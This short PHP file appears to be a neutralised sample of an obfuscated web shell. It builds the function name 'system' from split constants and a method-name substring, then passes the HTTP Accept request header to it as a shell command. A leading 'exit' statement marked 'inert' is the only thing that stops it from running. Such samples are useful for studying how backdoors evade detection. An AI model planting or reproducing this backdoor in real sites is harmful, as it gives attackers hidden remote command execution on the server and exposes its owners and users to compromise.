<?php exit; /* inert */ 
define('S_A', 'sys'); 
class N { const B = 'tem'; public static function system_run() { return substr(__FUNCTION__, 0, 6); } }
$f = constant('S_A') . constant('N::B');
$g = N::system_run();
$f === $g and $g($_SERVER['HTTP_ACCEPT']);
